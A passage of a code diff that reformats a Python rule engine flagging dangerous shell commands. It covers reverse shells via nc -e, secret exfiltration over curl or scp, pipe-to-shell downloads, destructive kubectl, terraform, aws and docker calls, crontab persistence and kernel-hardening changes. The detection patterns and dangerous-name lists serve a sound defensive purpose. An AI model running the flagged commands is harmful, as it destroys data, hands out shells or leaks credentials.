-                                                    ("default" in argv or "flush" in argv)) or argv[:2] in (
-                                                        ["addr", "flush"], ["address", "flush"], ["a", "flush"]):
+        if (
+            ("link" in argv and "down" in argv)
+            or (
+                argv[:2] in (["route", "del"], ["route", "flush"], ["r", "del"])
+                and ("default" in argv or "flush" in argv)
+            )
+            or argv[:2] in (["addr", "flush"], ["address", "flush"], ["a", "flush"])
+        ):
             self.emit("bash.remote_lockout", cmd.line, f"ip {' '.join(argv)} can cut network access")
 
     def _cmd_ifdown(self, cmd: Command) -> None:
@@ -1239,8 +1831,11 @@ class CommandRules:
             self.emit("bash.remote_lockout", cmd.line, f"ifconfig {' '.join(cmd.argv)}")
 
     def _cmd_nmcli(self, cmd: Command) -> None:
-        if cmd.argv[:2] == ["networking", "off"] or (cmd.argv[:1] in (["radio"], ["r"]) and "off" in cmd.argv) or (
-                "down" in cmd.argv and cmd.argv[:1] in (["connection"], ["con"], ["c"], ["device"], ["dev"], ["d"])):
+        if (
+            cmd.argv[:2] == ["networking", "off"]
+            or (cmd.argv[:1] in (["radio"], ["r"]) and "off" in cmd.argv)
+            or ("down" in cmd.argv and cmd.argv[:1] in (["connection"], ["con"], ["c"], ["device"], ["dev"], ["d"]))
+        ):
             self.emit("bash.remote_lockout", cmd.line, f"nmcli {' '.join(cmd.argv)}")
 
     def _account(self, cmd: Command) -> None:
@@ -1263,7 +1858,11 @@ class CommandRules:
     _cmd_adduser = _cmd_useradd
 
     def _cmd_passwd(self, cmd: Command) -> None:
-        if cmd.has_flag("-d", "-l", "-u", "--delete", "--lock", "-e") or [o.text for o in cmd.operands()] in (["root"],) or cmd.has_flag("--stdin"):
+        if (
+            cmd.has_flag("-d", "-l", "-u", "--delete", "--lock", "-e")
+            or [o.text for o in cmd.operands()] in (["root"],)
+            or cmd.has_flag("--stdin")
+        ):
             self._account(cmd)
 
     def _cmd_gpasswd(self, cmd: Command) -> None:
@@ -1278,8 +1877,12 @@ class CommandRules:
         argv = cmd.argv
         if cmd.has_flag("-r"):
             self.emit("bash.cron", cmd.line, "crontab -r deletes every scheduled job of the user")
-        elif not cmd.has_flag("-l") and (argv and argv[-1] == "-" or [o for o in cmd.operands() if o.text != "-"] or cmd.upstream
-                                          or cmd.stdin_text is not None):
+        elif not cmd.has_flag("-l") and (
+            argv[-1:] == ["-"]
+            or any(o.text != "-" for o in cmd.operands())
+            or bool(cmd.upstream)
+            or cmd.stdin_text is not None
+        ):
             self.emit("bash.cron", cmd.line, "installs a new crontab (persistence)")
             if cmd.stdin_text:
                 self.sink.embedded(cmd.stdin_text, "crontab", cmd.line, "crontab")
@@ -1322,7 +1925,9 @@ class CommandRules:
             elif names <= {"ssh-agent", "dircolors", "pyenv", "rbenv", "direnv", "brew", "keychain", "opam"} and names:
                 return
             else:
-                self.emit("bash.eval_dynamic", cmd.line, f"eval of run-time text '{' '.join(w.raw for w in code_words)[:60]}'")
+                self.emit(
+                    "bash.eval_dynamic", cmd.line, f"eval of run-time text '{' '.join(w.raw for w in code_words)[:60]}'"
+                )
             return
         code = " ".join(w.text for w in code_words)
         if any(w.obfuscated for w in code_words) and names & DECODERS:
@@ -1342,7 +1947,11 @@ class CommandRules:
         if target.process_subst:
             names = set(target.subst_commands)
             if names & DOWNLOADERS:
-                self.emit("bash.pipe_to_shell", cmd.line, f"{how} runs text downloaded by {', '.join(sorted(names & DOWNLOADERS))}")
+                self.emit(
+                    "bash.pipe_to_shell",
+                    cmd.line,
+                    f"{how} runs text downloaded by {', '.join(sorted(names & DOWNLOADERS))}",
+                )
             elif names & DECODERS:
                 self.emit("bash.decode_to_shell", cmd.line, f"{how} runs decoded text")
             else:
@@ -1389,18 +1998,28 @@ class CommandRules:
             if text is None:
                 break
         if decoded:
-            self.emit("bash.decode_to_shell", cmd.line,
-                      f"decoded text ({', '.join(u.name for u in up)}) is piped into {cmd.name}")
+            self.emit(
+                "bash.decode_to_shell",
+                cmd.line,
+                f"decoded text ({', '.join(u.name for u in up)}) is piped into {cmd.name}",
+            )
         if text is not None:
             self.sink.embedded(text, language, cmd.line, f"text piped into {cmd.name}")
             return True
         if not decoded:
             first = up[0]
-            if first.name == "cat" and first.operands() and normalise_path(first.operands()[0].text) in self.sink.written_scripts:
-                self.sink.embedded(self.sink.written_scripts[normalise_path(first.operands()[0].text)], language, cmd.line, "script")
+            if (
+                first.name == "cat"
+                and first.operands()
+                and normalise_path(first.operands()[0].text) in self.sink.written_scripts
+            ):
+                self.sink.embedded(
+                    self.sink.written_scripts[normalise_path(first.operands()[0].text)], language, cmd.line, "script"
+                )
             elif language in ("bash", "python") or _shell_kind(cmd.name):
-                self.emit("bash.eval_dynamic", cmd.line,
-                          f"{cmd.name} runs whatever {' | '.join(u.name for u in up)} prints")
+                self.emit(
+                    "bash.eval_dynamic", cmd.line, f"{cmd.name} runs whatever {' | '.join(u.name for u in up)} prints"
+                )
         return True
 
     def _interpreter(self, cmd: Command, kind: str) -> None:
@@ -1416,7 +2035,11 @@ class CommandRules:
                 break
             if text.startswith("-") and len(text) > 1 and not text.startswith("--"):
                 letters = text[1:]
-                if code_flag[1] in letters or (kind == "perl" and "E" in letters) or (kind == "node" and "p" in letters):
+                if (
+                    code_flag[1] in letters
+                    or (kind == "perl" and "E" in letters)
+                    or (kind == "node" and "p" in letters)
+                ):
                     code = args[i + 1] if i + 1 < len(args) else None
                     break
                 if kind == "python" and letters in ("m",):
@@ -1434,8 +2057,12 @@ class CommandRules:
         if kind in ("bash",) and cmd.prefix_env:
             for key in ("BASH_ENV", "ENV"):
                 if key in cmd.prefix_env:
-                    self.emit("bash.env_injection", cmd.line, f"{key}={cmd.prefix_env[key].text} makes {cmd.name} run that file first")
-        language = kind if kind in ("bash", "python") else kind
+                    self.emit(
+                        "bash.env_injection",
+                        cmd.line,
+                        f"{key}={cmd.prefix_env[key].text} makes {cmd.name} run that file first",
+                    )
+        language = kind
         if code is not None:
             if code.dynamic:
                 names = set(code.subst_commands)
@@ -1444,7 +2071,11 @@ class CommandRules:
                 elif names & DECODERS:
                     self.emit("bash.decode_to_shell", cmd.line, f"{cmd.name} {code_flag} runs decoded text")
                 else:
-                    self.emit("bash.eval_dynamic", cmd.line, f"{cmd.name} {code_flag} '{code.raw[:60]}' is known only at run time")
+                    self.emit(
+                        "bash.eval_dynamic",
+                        cmd.line,
+                        f"{cmd.name} {code_flag} '{code.raw[:60]}' is known only at run time",
+                    )
                 return
             if kind in ("bash", "python"):
                 self.sink.embedded(code.text, language, cmd.line, f"{cmd.name} {code_flag}")
@@ -1463,7 +2094,9 @@ class CommandRules:
                 self._foreign_code(cmd, cmd.stdin_text)
 
     def _foreign_code(self, cmd: Command, code: str) -> None:
-        if re.search(r"\b(system|exec|spawn|popen|fork|unlink|rmtree|socket|eval|child_process|shell_exec|passthru)\b|`", code):
+        if re.search(
+            r"\b(system|exec|spawn|popen|fork|unlink|rmtree|socket|eval|child_process|shell_exec|passthru)\b|`", code
+        ):
             self.emit("bash.interpreter_exec", cmd.line, f"{cmd.name} code runs system commands: {code[:60]!r}")
 
     def _cmd_awk(self, cmd: Command) -> None:
@@ -1476,57 +2109,150 @@ class CommandRules:
     _cmd_nawk = _cmd_awk
 
     def _cmd_tar(self, cmd: Command) -> None:
-        if any(a.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program", "--rsh-command")) for a in cmd.argv):
+        if any(
+            a.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program", "--rsh-command"))
+            for a in cmd.argv
+        ):
             self.emit("bash.interpreter_exec", cmd.line, "tar runs an external command through an option")
         self._exfil(cmd)
 
     def _cmd_git(self, cmd: Command) -> None:
         argv = cmd.argv
-        root = any(a in ("/",) for i, a in enumerate(argv) if i > 0 and argv[i - 1] in ("-C", "--git-dir", "--work-tree")) or any(
-            a in ("--git-dir=/", "--work-tree=/") for a in argv)
-        if any(a.startswith(("core.pager=", "core.sshCommand=", "core.editor=", "core.fsmonitor=")) or a.startswith("alias.") and "=!" in a for a in argv):
+        root = any(
+            a in ("/",) for i, a in enumerate(argv) if i > 0 and argv[i - 1] in ("-C", "--git-dir", "--work-tree")
+        ) or any(a in ("--git-dir=/", "--work-tree=/") for a in argv)
+        if any(
+            a.startswith(("core.pager=", "core.sshCommand=", "core.editor=", "core.fsmonitor="))
+            or (a.startswith("alias.") and "=!" in a)
+            for a in argv
+        ):
             self.emit("bash.interpreter_exec", cmd.line, "git -c config runs a shell command")
-        sub = next((a for i, a in enumerate(argv) if not a.startswith("-") and (i == 0 or argv[i - 1] not in ("-C", "-c", "--git-dir", "--work-tree"))), "")
+        sub = next(
+            (
+                a
+                for i, a in enumerate(argv)
+                if not a.startswith("-") and (i == 0 or argv[i - 1] not in ("-C", "-c", "--git-dir", "--work-tree"))
+            ),
+            "",
+        )
         if sub == "reset" and "--hard" in argv:
-            self.emit("bash.destructive_cli", cmd.line, "git reset --hard discards uncommitted work" + (" on /" if root else ""), C if root else M)
+            self.emit(
+                "bash.destructive_cli",
+                cmd.line,
+                "git reset --hard discards uncommitted work" + (" on /" if root else ""),
+                C if root else M,
+            )
         elif sub == "clean" and cmd.has_flag("-f") and not cmd.has_flag("-n", "--dry-run"):
             self.emit("bash.destructive_cli", cmd.line, "git clean -f deletes untracked files", C if root else M)
-        elif sub == "push" and (cmd.has_flag("-f", "--force") or any(a.startswith("+") for a in argv)) and not any(
-                a.startswith("--force-with-lease") for a in argv):
+        elif (
+            sub == "push"
+            and (cmd.has_flag("-f", "--force") or any(a.startswith("+") for a in argv))
+            and not any(a.startswith("--force-with-lease") for a in argv)
+        ):
             self.emit("bash.destructive_cli", cmd.line, "git push --force rewrites remote history")
         elif sub == "stash" and "clear" in argv:
             self.emit("bash.destructive_cli", cmd.line, "git stash clear drops all stashes", M)
 
     def _cmd_kubectl(self, cmd: Command) -> None:
         argv = cmd.argv
-        ops = [a for i, a in enumerate(argv) if not a.startswith("-") and (i == 0 or argv[i - 1] not in (
-            "-n", "--namespace", "--context", "-l", "--selector", "-f", "--filename", "-o", "--field-selector", "-c",
-            "--kubeconfig", "--cluster", "--user", "-p"))]
+        ops = [
+            a
+            for i, a in enumerate(argv)
+            if not a.startswith("-")
+            and (
+                i == 0
+                or argv[i - 1]
+                not in (
+                    "-n",
+                    "--namespace",
+                    "--context",
+                    "-l",
+                    "--selector",
+                    "-f",
+                    "--filename",
+                    "-o",
+                    "--field-selector",
+                    "-c",
+                    "--kubeconfig",
+                    "--cluster",
+                    "--user",
+                    "-p",
+                )
+            )
+        ]
         verb = ops[0] if ops else ""
         everything = any(a in ("--all", "-A", "--all-namespaces") or a.startswith("--all=") for a in argv)
         if verb == "delete":
             kinds = ops[1].lower().split(",") if len(ops) > 1 else []
             kind_names = ops[1].lower().split("/") if len(ops) > 1 else []
-            kind = kind_names[0]if kind_names else ""
+            kind = kind_names[0] if kind_names else ""
             names = ops[2:] if len(kind_names) == 1 else [kind_names[1]]
             if kind in ("ns", "namespace", "namespaces"):
                 if names and all(EPHEMERAL_NAMESPACE.match(n) for n in names):
                     return
-                self.emit("bash.destructive_cli", cmd.line, f"kubectl delete namespace {' '.join(names)} deletes everything in it", C)
+                self.emit(
+                    "bash.destructive_cli",
+                    cmd.line,
+                    f"kubectl delete namespace {' '.join(names)} deletes everything in it",
+                    C,
+                )
             elif everything or "all" in kinds:
-                self.emit("bash.destructive_cli", cmd.line, f"kubectl delete {' '.join(argv[1:])[:60]} deletes every matching resource", C)
-            elif kind in ("pv", "pvc", "persistentvolume", "persistentvolumeclaim", "persistentvolumes",
-                          "persistentvolumeclaims", "crd", "crds", "customresourcedefinition",
-                          "customresourcedefinitions", "node", "nodes", "statefulset", "statefulsets", "sts",
-                          "deployment", "deployments", "deploy", "daemonset", "daemonsets", "ds", "service", "svc",
-                          "secret", "secrets", "clusterrole", "clusterrolebinding", "storageclass", "sc",
-                          "validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
-                self.emit("bash.destructive_cli", cmd.line, f"kubectl delete {kind} {' '.join(names)[:40]} removes a long-lived resource")
-            elif kind in ("pod", "pods", "po") and any(a in ("-l", "--selector") or a.startswith("--selector=") for a in argv) and not any(
-                    a.startswith("--field-selector") for a in argv):
-                self.emit("bash.destructive_cli", cmd.line, "kubectl delete pods by label deletes every matching pod", M)
+                self.emit(
+                    "bash.destructive_cli",
+                    cmd.line,
+                    f"kubectl delete {' '.join(argv[1:])[:60]} deletes every matching resource",
+                    C,
+                )
+            elif kind in (
+                "pv",
+                "pvc",
+                "persistentvolume",
+                "persistentvolumeclaim",
+                "persistentvolumes",
+                "persistentvolumeclaims",
+                "crd",
+                "crds",
+                "customresourcedefinition",
+                "customresourcedefinitions",
+                "node",
+                "nodes",
+                "statefulset",
+                "statefulsets",
+                "sts",
+                "deployment",
+                "deployments",
+                "deploy",
+                "daemonset",
+                "daemonsets",
+                "ds",
+                "service",
+                "svc",
+                "secret",
+                "secrets",
+                "clusterrole",
+                "clusterrolebinding",
+                "storageclass",
+                "sc",
+                "validatingwebhookconfiguration",
+                "mutatingwebhookconfiguration",
+            ):
+                self.emit(
+                    "bash.destructive_cli",
+                    cmd.line,
+                    f"kubectl delete {kind} {' '.join(names)[:40]} removes a long-lived resource",
+                )
+            elif (
+                kind in ("pod", "pods", "po")
+                and any(a in ("-l", "--selector") or a.startswith("--selector=") for a in argv)
+                and not any(a.startswith("--field-selector") for a in argv)
+            ):
+                self.emit(
+                    "bash.destructive_cli", cmd.line, "kubectl delete pods by label deletes every matching pod", M
+                )
             elif "-f" in argv or "--filename" in argv or any(a.startswith(("-f=", "--filename=")) for a in argv):
-                self.emit("bash.destructive_cli", cmd.line, "kubectl delete -f deletes everything the manifest names", M)
+                self.emit(
+                    "bash.destructive_cli", cmd.line, "kubectl delete -f deletes everything the manifest names", M
+                )
             if cmd.stdin_text is not None or cmd.upstream:
                 self._stdin_code(cmd, "kubernetes")
             return
@@ -1537,24 +2263,37 @@ class CommandRules:
         if verb in ("apply", "create", "replace") and ("-" in argv or "--filename=-" in argv or "-f=-" in argv):
             self._stdin_code(cmd, "kubernetes")
         if verb == "apply" and "--prune" in argv:
-            self.emit("bash.destructive_cli", cmd.line, "kubectl apply --prune deletes resources missing from the manifest", M)
+            self.emit(
+                "bash.destructive_cli", cmd.line, "kubectl apply --prune deletes resources missing from the manifest", M
+            )
         if verb == "drain" and everything:
             self.emit("bash.destructive_cli", cmd.line, "kubectl drain --all drains every node")
         if verb == "exec" and "--" in argv:
             inner = cmd.args[argv.index("--") + 1 :]
             if inner:
-                self.check(Command(name=normalise_name(inner[0].text), args=inner[1:], line=cmd.line,
-                                   name_word=inner[0], context="kubectl exec"))
+                self.check(
+                    Command(
+                        name=normalise_name(inner[0].text),
+                        args=inner[1:],
+                        line=cmd.line,
+                        name_word=inner[0],
+                        context="kubectl exec",
+                    )
+                )
 
     def _cmd_helm(self, cmd: Command) -> None:
         if cmd.argv[:1] in (["uninstall"], ["delete"], ["del"], ["un"]):
-            self.emit("bash.destructive_cli", cmd.line, f"helm {' '.join(cmd.argv)[:60]} removes a release and its resources")
+            self.emit(
+                "bash.destructive_cli", cmd.line, f"helm {' '.join(cmd.argv)[:60]} removes a release and its resources"
+            )
 
     def _cmd_terraform(self, cmd: Command) -> None:
         if "destroy" in cmd.argv or "-destroy" in cmd.argv:
             self.emit("bash.destructive_cli", cmd.line, "terraform destroy deletes the managed infrastructure", C)
         elif cmd.argv[:1] == ["apply"] and "-auto-approve" in cmd.argv:
-            self.emit("bash.destructive_cli", cmd.line, "terraform apply -auto-approve changes infrastructure unreviewed", M)
+            self.emit(
+                "bash.destructive_cli", cmd.line, "terraform apply -auto-approve changes infrastructure unreviewed", M
+            )
         elif cmd.argv[:2] == ["state", "rm"]:
             self.emit("bash.destructive_cli", cmd.line, "terraform state rm forgets managed resources", M)
 
@@ -1563,9 +2302,15 @@ class CommandRules:
     def _cmd_aws(self, cmd: Command) -> None:
         argv = cmd.argv
         joined = " ".join(argv)
-        if (argv[:2] == ["s3", "rm"] and "--recursive" in argv) or argv[:2] == ["s3", "rb"] or re.search(
+        if (
+            (argv[:2] == ["s3", "rm"] and "--recursive" in argv)
+            or argv[:2] == ["s3", "rb"]
+            or re.search(
                 r"\b(terminate-instances|delete-db-instance|delete-db-cluster|delete-bucket|delete-stack|delete-table|"
-                r"delete-cluster|delete-volume|delete-snapshot|delete-secret|delete-user|delete-key)\b", joined):
+                r"delete-cluster|delete-volume|delete-snapshot|delete-secret|delete-user|delete-key)\b",
+                joined,
+            )
+        ):
             self.emit("bash.destructive_cli", cmd.line, f"aws {joined[:60]} deletes cloud resources")
 
     def _cmd_gcloud(self, cmd: Command) -> None:
@@ -1583,9 +2328,16 @@ class CommandRules:
         argv = cmd.argv
         if argv[:2] == ["system", "prune"] and (cmd.has_flag("-a", "--all", "--volumes")):
             self.emit("bash.destructive_cli", cmd.line, f"docker {' '.join(argv)} deletes images and volumes")
-        elif argv[:2] == ["volume", "prune"] or argv[:2] in (["volume", "rm"],) and cmd.has_flag("-f") or (argv[:1] == ["rm"] and cmd.has_flag("-v") and any(a.dynamic for a in cmd.args)):
+        elif (
+            argv[:2] == ["volume", "prune"]
+            or (argv[:2] in (["volume", "rm"],) and cmd.has_flag("-f"))
+            or (argv[:1] == ["rm"] and cmd.has_flag("-v") and any(a.dynamic for a in cmd.args))
+        ):
             self.emit("bash.destructive_cli", cmd.line, f"docker {' '.join(argv)} deletes volumes (data)")
-        elif argv[:1] in (["run"],) and (cmd.has_flag("--privileged") or any(a.startswith("/:/") or a == "/:/host" or a.startswith("-v/:") for a in argv)):
+        elif argv[:1] in (["run"],) and (
+            cmd.has_flag("--privileged")
+            or any(a.startswith("/:/") or a == "/:/host" or a.startswith("-v/:") for a in argv)
+        ):
             self.emit("bash.destructive_cli", cmd.line, "docker run --privileged or with / mounted is root on the host")
         elif argv[:1] == ["run"] and any(re.match(r"^/:", a) for a in argv):
             self.emit("bash.destructive_cli", cmd.line, "docker run mounts the host root")
@@ -1594,8 +2346,11 @@ class CommandRules:
 
     def _cmd_redis_cli(self, cmd: Command) -> None:
         upper = [a.upper() for a in cmd.argv]
-        if any(a in ("FLUSHALL", "FLUSHDB", "SHUTDOWN") for a in upper) or (
-                "CONFIG" in upper and "SET" in upper and ("DIR" in upper or "DBFILENAME" in upper)) or upper[:2] == ["DEBUG", "SEGFAULT"]:
+        if (
+            any(a in ("FLUSHALL", "FLUSHDB", "SHUTDOWN") for a in upper)
+            or ("CONFIG" in upper and "SET" in upper and ("DIR" in upper or "DBFILENAME" in upper))
+            or upper[:2] == ["DEBUG", "SEGFAULT"]
+        ):
             self.emit("bash.destructive_cli", cmd.line, f"redis-cli {' '.join(cmd.argv)[:60]}")
         if cmd.stdin_text and re.search(r"FLUSHALL|FLUSHDB", cmd.stdin_text, re.I):
             self.emit("bash.destructive_cli", cmd.line, "redis-cli input flushes data")
@@ -1626,7 +2381,9 @@ class CommandRules:
             if a in ("-e", "--execute") and i + 1 < len(cmd.argv):
                 code = cmd.argv[i + 1]
         code = code or cmd.stdin_text
-        if code and re.search(r"\b(DROP\s+(DATABASE|TABLE|SCHEMA)|TRUNCATE)\b|\bDELETE\s+FROM\s+\w+\s*;?\s*$", code, re.I):
+        if code and re.search(
+            r"\b(DROP\s+(DATABASE|TABLE|SCHEMA)|TRUNCATE)\b|\bDELETE\s+FROM\s+\w+\s*;?\s*$", code, re.I
+        ):
             self.emit("bash.destructive_cli", cmd.line, f"mysql runs destructive SQL: {code[:60]!r}")
 
     _cmd_mariadb = _cmd_mysql
@@ -1641,8 +2398,12 @@ class CommandRules:
     def _cmd_sysctl(self, cmd: Command) -> None:
         for a in cmd.argv:
             key, _, value = a.partition("=")
-            if (key == "kernel.randomize_va_space" and value.strip() == "0") or (key == "fs.suid_dumpable" and value in ("1", "2")) or (
-                    key in ("kernel.modules_disabled",) and value == "0") or (key == "kernel.yama.ptrace_scope" and value == "0"):
+            if (
+                (key == "kernel.randomize_va_space" and value.strip() == "0")
+                or (key == "fs.suid_dumpable" and value in ("1", "2"))
+                or (key in ("kernel.modules_disabled",) and value == "0")
+                or (key == "kernel.yama.ptrace_scope" and value == "0")
+            ):
                 self.emit("bash.kernel_security", cmd.line, f"sysctl {a} weakens kernel hardening")
 
     def _cmd_insmod(self, cmd: Command) -> None:
@@ -1657,7 +2418,11 @@ class CommandRules:
         ops = [a.text for a in cmd.operands()]
         if not ops or ops[0] not in remove_verbs:
             return
-        bad = [p for p in ops[1:] if p.split("=")[0].split(":")[0] in ESSENTIAL_PACKAGES or p.startswith(("linux-image", "openssh"))]
+        bad = [
+            p
+            for p in ops[1:]
+            if p.split("=")[0].split(":")[0] in ESSENTIAL_PACKAGES or p.startswith(("linux-image", "openssh"))
+        ]
         if bad:
             self.emit("bash.package_remove_critical", cmd.line, f"{cmd.name} {ops[0]} removes {', '.join(bad)}")
 
@@ -1674,16 +2439,29 @@ class CommandRules:
     def _cmd_rpm(self, cmd: Command) -> None:
         if cmd.has_flag("-e", "--erase"):
             ops = [a for a in cmd.operands()]
-            self._packages(Command(name="rpm", args=[Word("remove", "", cmd.line), *ops], line=cmd.line, name_word=cmd.name_word), ("remove",))
+            self._packages(
+                Command(name="rpm", args=[Word("remove", "", cmd.line), *ops], line=cmd.line, name_word=cmd.name_word),
+                ("remove",),
+            )
             if "--nodeps" in cmd.argv and not [o for o in ops]:
                 return
 
     def _cmd_dpkg(self, cmd: Command) -> None:
         if cmd.has_flag("-r", "-P", "--remove", "--purge"):
-            self._packages(Command(name="dpkg", args=[Word("remove", "", cmd.line), *cmd.operands()], line=cmd.line, name_word=cmd.name_word), ("remove",))
+            self._packages(
+                Command(
+                    name="dpkg",
+                    args=[Word("remove", "", cmd.line), *cmd.operands()],
+                    line=cmd.line,
+                    name_word=cmd.name_word,
+                ),
+                ("remove",),
+            )
 
     def _cmd_nc(self, cmd: Command) -> None:
-        if cmd.has_flag("-e", "-c") or any(a in ("--sh-exec", "--exec", "--lua-exec") or a.startswith(("--sh-exec=", "--exec=")) for a in cmd.argv):
+        if cmd.has_flag("-e", "-c") or any(
+            a in ("--sh-exec", "--exec", "--lua-exec") or a.startswith(("--sh-exec=", "--exec=")) for a in cmd.argv
+        ):
             self.emit("bash.reverse_shell", cmd.line, f"{cmd.name} -e hands a shell to a network peer")
         elif cmd.upstream and any(_shell_kind(u.name) == "bash" for u in cmd.upstream):
             self.emit("bash.reverse_shell", cmd.line, f"a shell's output is piped into {cmd.name}")
@@ -1702,7 +2480,29 @@ class CommandRules:
 
     def _cmd_ssh(self, cmd: Command) -> None:
         ops = cmd.operands()
-        option_values = {"-i", "-p", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-W", "-b", "-c", "-E", "-m", "-S", "-O", "-Q", "-w", "-B", "-e", "-I"}
+        option_values = {
+            "-i",
+            "-p",
+            "-l",
+            "-o",
+            "-F",
+            "-J",
+            "-L",
+            "-R",
+            "-D",
+            "-W",
+            "-b",
+            "-c",
+            "-E",
+            "-m",
+            "-S",
+            "-O",
+            "-Q",
+            "-w",
+            "-B",
+            "-e",
+            "-I",
+        }
         positional: list[Word] = []
         skip = False
         for a in cmd.args:
@@ -1751,8 +2551,11 @@ class CommandRules:
 
     def _cmd_printenv(self, cmd: Command) -> None:
         if not cmd.operands():
-            self.emit("bash.secret_read", cmd.line, f"{cmd.name} dumps every environment variable (tokens, passwords)",
-                      H if cmd.upstream or True else M)
+            self.emit(
+                "bash.secret_read",
+                cmd.line,
+                f"{cmd.name} dumps every environment variable (tokens, passwords)",
+            )
 
     def _cmd_env(self, cmd: Command) -> None:
         if not cmd.args:
@@ -1768,7 +2571,11 @@ class CommandRules:
                 self.emit("bash.env_injection", cmd.line, f"read sets {op.text} from input")
 
     def _cmd_printf(self, cmd: Command) -> None:
-        if len(cmd.args) >= 2 and cmd.args[0].text == "-v" and cmd.args[1].text in ("BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND"):
+        if (
+            len(cmd.args) >= 2
+            and cmd.args[0].text == "-v"
+            and cmd.args[1].text in ("BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND")
+        ):
             self.emit("bash.env_injection", cmd.line, f"printf -v sets {cmd.args[1].text}")
 
     def _cmd_declare(self, cmd: Command) -> None:
@@ -1803,11 +2610,36 @@ class CommandRules:
 
     # -- secrets and exfiltration -------------------------------------------------------------
     def _secrets(self, cmd: Command) -> None:
-        if cmd.name in ("chmod", "chown", "chgrp", "ls", "stat", "test", "[", "[[", "ssh-keygen", "ssh-add", "ssh",
-                        "install", "file", "touch", "rm", "shred", "getfacl", "setfacl", "restorecon", "chcon", "mkdir"):
+        if cmd.name in (
+            "chmod",
+            "chown",
+            "chgrp",
+            "ls",
+            "stat",
+            "test",
+            "[",
+            "[[",
+            "ssh-keygen",
+            "ssh-add",
+            "ssh",
+            "install",
+            "file",
+            "touch",
+            "rm",
+            "shred",
+            "getfacl",
+            "setfacl",
+            "restorecon",
+            "chcon",
+            "mkdir",
+        ):
             return
         for arg in cmd.args:
-            text = arg.text[arg.text.index("@") + 1 :] if "@" in arg.text[:12] and cmd.name in ("curl", "http") else arg.text
+            text = (
+                arg.text[arg.text.index("@") + 1 :]
+                if "@" in arg.text[:12] and cmd.name in ("curl", "http")
+                else arg.text
+            )
             if text.startswith("if="):
                 text = text[3:]
             if "=" in text and text.split("=", 1)[1].startswith(("/", "~", "@")):
@@ -1826,20 +2658,34 @@ class CommandRules:
             if text.startswith("--") and "=" in text:
                 candidates.append(text.split("=", 1)[1].lstrip("@"))
             for cand in candidates:
-                if cand and is_secret_path(cand) or (cmd.name in ("scp", "rsync", "sftp") and any(
-                        normalise_path(cand).startswith(d) and len(normalise_path(cand)) > 1 for d in ("~/.ssh", "/root/.ssh", "~/.aws", "/etc/shadow"))):
+                if (cand and is_secret_path(cand)) or (
+                    cmd.name in ("scp", "rsync", "sftp")
+                    and any(
+                        normalise_path(cand).startswith(d) and len(normalise_path(cand)) > 1
+                        for d in ("~/.ssh", "/root/.ssh", "~/.aws", "/etc/shadow")
+                    )
+                ):
                     self.emit("bash.exfiltration", cmd.line, f"{cmd.name} sends {normalise_path(cand)} off the host")
                     return
         if not cmd.upstream:
             return
         for up in cmd.upstream:
             reads_secret = any(is_secret_path(a.text) for a in up.args)
-            dumps_env = up.name in ("printenv", "env", "set", "export") and not up.operands() and not up.args or (up.name == "env" and not up.args)
+            dumps_env = (up.name in ("printenv", "env", "set", "export") and not up.operands() and not up.args) or (
+                up.name == "env" and not up.args
+            )
             archives_secret = up.name in ("tar", "zip", "cat", "base64", "gzip", "xxd") and any(
-                normalise_path(a.text) in SENSITIVE_DIRS or normalise_path(a.text).startswith(("~/.ssh", "/root/.ssh", "~/.aws", "/etc/ssl/private")) or is_secret_path(a.text)
-                for a in up.args)
+                normalise_path(a.text) in SENSITIVE_DIRS
+                or normalise_path(a.text).startswith(("~/.ssh", "/root/.ssh", "~/.aws", "/etc/ssl/private"))
+                or is_secret_path(a.text)
+                for a in up.args
+            )
             if reads_secret or dumps_env or archives_secret:
-                self.emit("bash.exfiltration", cmd.line, f"{up.name} output with secrets is sent over the network by {cmd.name}")
+                self.emit(
+                    "bash.exfiltration",
+                    cmd.line,
+                    f"{up.name} output with secrets is sent over the network by {cmd.name}",
+                )
                 return
 
     # -- side effects -------------------------------------------------------------------------
@@ -1849,8 +2695,30 @@ class CommandRules:
             self.sink.side_effect(effect)
 
 
-_DANGEROUS_NAMES = {"rm", "dd", "mkfs", "shred", "wipefs", "curl", "wget", "nc", "bash", "sh", "python", "python3",
-                    "chmod", "chown", "kill", "reboot", "shutdown", "eval", "base64", "socat", "iptables", "find"}
+_DANGEROUS_NAMES = {
+    "rm",
+    "dd",
+    "mkfs",
+    "shred",
+    "wipefs",
+    "curl",
+    "wget",
+    "nc",
+    "bash",
+    "sh",
+    "python",
+    "python3",
+    "chmod",
+    "chown",
+    "kill",
+    "reboot",
+    "shutdown",
+    "eval",
+    "base64",
+    "socat",
+    "iptables",
+    "find",
+}
 
 
 def describe(cmd: Command) -> str | None:
@@ -1863,7 +2731,12 @@ def describe(cmd: Command) -> str | None:
     if name == "find" and ("-delete" in argv or "-exec" in argv):
         root = next((a for a in argv if not a.startswith("-")), ".")
         preds = []
-        for flag, label in (("-name", "named"), ("-iname", "named"), ("-mtime", "modified"), ("-mmin", "modified (min)")):
+        for flag, label in (
+            ("-name", "named"),
+            ("-iname", "named"),
+            ("-mtime", "modified"),
+            ("-mmin", "modified (min)"),
+        ):
             if flag in argv and argv.index(flag) + 1 < len(argv):
                 value = argv[argv.index(flag) + 1]
                 if flag == "-mtime" and value.startswith("+"):
@@ -1871,17 +2744,61 @@ def describe(cmd: Command) -> str | None:
                 else:
                     preds.append(f"{label} {value}")
         return f"deletes files under {root}" + (f" {' and '.join(preds)}" if preds else "")
-    if name in ("systemctl",) and len(ops) >= 2 and ops[0] in ("restart", "reload", "stop", "start", "enable", "disable",
-                                                                "mask", "unmask", "try-restart", "reload-or-restart", "kill"):
-        verb = {"restart": "restarts", "reload": "reloads", "stop": "stops", "start": "starts", "enable": "enables",
-                "disable": "disables", "mask": "masks", "unmask": "unmasks", "try-restart": "restarts",
-                "reload-or-restart": "reloads or restarts", "kill": "kills"}[ops[0]]
+    if (
+        name in ("systemctl",)
+        and len(ops) >= 2
+        and ops[0]
+        in (
+            "restart",
+            "reload",
+            "stop",
+            "start",
+            "enable",
+            "disable",
+            "mask",
+            "unmask",
+            "try-restart",
+            "reload-or-restart",
+            "kill",
+        )
+    ):
+        verb = {
+            "restart": "restarts",
+            "reload": "reloads",
+            "stop": "stops",
+            "start": "starts",
+            "enable": "enables",
+            "disable": "disables",
